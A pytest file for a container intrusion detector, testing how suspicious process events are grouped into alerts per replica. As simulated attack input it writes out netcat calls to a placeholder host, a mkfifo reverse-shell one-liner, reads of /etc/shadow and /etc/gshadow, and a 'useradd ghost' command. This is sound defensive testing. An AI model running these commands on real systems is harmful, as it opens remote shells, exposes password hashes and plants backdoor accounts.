"""What one replica does next says nothing about how surprising its first step was, nor does what was told of it long ago."""

import pytest
from detection.cluster import SECOND, Cluster, Replica, alerts, analyse
from peerwatch.columns import ProcessFlag

from collector.records import Severity

HERD, SHELL = "/opt/herd/herdd", "/usr/bin/dash"
STEPS = ("id", "hostname", "ls", "ps", "env", "uname", "df", "getent")


def lone(cluster: Cluster, end: float) -> Replica:
    """Let one replica run a helper now and then."""
    (pod,) = cluster.pods(1)
    cluster.exec(0.0, pod, HERD, parent="")
    at = 1.0
    while at < end:
        cluster.exec(at, pod, "/opt/herd/count", parent=HERD)
        at += 7.0
    return pod


def enter(cluster: Cluster, at: float, pod: Replica, *said: str, exe: str = SHELL, parent: str = "") -> None:
    cluster.exec(at, pod, exe, parent=parent, args=said, flags=(ProcessFlag.INJECTED,))


@pytest.mark.parametrize("steps", [0, 8])
def test_more_steps_make_the_first_one_no_less_surprising(cluster: Cluster, steps: int) -> None:
    pod = lone(cluster, 1500)
    cluster.exec(1400.3, pod, "/usr/bin/nc", parent=HERD, args=("nc", "203.0.113.9", "4444"))
    for number, step in enumerate(STEPS[:steps]):
        cluster.exec(1403.0 + 2.5 * number, pod, f"/usr/bin/{step}", parent=HERD)

    (alert, *_) = alerts(analyse(cluster, until=1500))

    assert "/usr/bin/nc" in {each.key.partition(" <- ")[0] for each in alert.behaviours}
    assert alert.severity >= Severity.MEDIUM


def test_what_somebody_was_told_for_long_ago_covers_no_other_deed(cluster: Cluster) -> None:
    pods = cluster.pods(3)
    cluster.normal(pods, 0, 4000, every=5)
    enter(cluster, 600.1, pods[1], "sh", "-c", "cat /etc/shadow")
    enter(cluster, 3600.1, pods[1], "sh", "-c", "mkfifo /srv/p; cat /srv/p | sh -i | nc 203.0.113.9 9999 > /srv/p")

    first, second = alerts(analyse(cluster, until=3900))

    assert first.time < second.time
    assert any("nc" in each.key and " : " in each.key for each in second.behaviours)
    assert second.severity >= Severity.MEDIUM


def test_what_it_does_within_minutes_belongs_to_what_was_told(cluster: Cluster) -> None:
    pods = cluster.pods(3)
    cluster.normal(pods, 0, 1200, every=5)
    enter(cluster, 600.1, pods[1], "sh", "-c", "cat /etc/shadow")
    enter(cluster, 900.1, pods[1], "sh", "-c", "cat /etc/gshadow")

    assert len(alerts(analyse(cluster, until=1300))) == 1


def test_new_names_of_the_same_oddity_on_one_replica_are_one_incident(cluster: Cluster) -> None:
    pods = cluster.pods(3)
    cluster.normal(pods, 0, 2400, every=5)
    for at, name in ((600.1, "/srv/mend"), (840.1, "/var/lib/trim"), (1300.1, "/opt/x")):
        cluster.exec(at, pods[1], name, parent="/usr/bin/server", flags=(ProcessFlag.UPPER_LAYER,))

    (alert,) = alerts(analyse(cluster, until=2500))

    assert len(alert.behaviours) == 3
    assert alert.time - alert.first_event < 60 * SECOND  # it was told with the first


def test_the_same_way_in_is_told_again_where_something_else_is_done(cluster: Cluster) -> None:
    pods = cluster.pods(3)
    cluster.normal(pods, 0, 2400, every=5)
    for at, said in ((600.1, "nc 203.0.113.9 4444"), (1000.1, "useradd ghost")):
        cluster.exec(at, pods[1], SHELL, parent="/usr/bin/server", args=("sh", "-c", said))
        cluster.exec(at + 0.1, pods[1], f"/usr/bin/{said.split()[0]}", parent=SHELL, args=said.split())

    assert len(alerts(analyse(cluster, until=2500))) == 2


def test_each_replica_has_an_incident_of_its_own(cluster: Cluster) -> None:
    pods = cluster.pods(4)
    cluster.normal(pods, 0, 2400, every=5)
    for at, pod in ((600.1, pods[1]), (1100.1, pods[2])):
        cluster.exec(at, pod, "/usr/bin/nc", args=("nc", "203.0.113.9", "4444"))

    assert [[each.pod for each in alert.replicas] for alert in alerts(analyse(cluster, until=2500))] == [
        [pods[1].name],
        [pods[2].name],
    ]
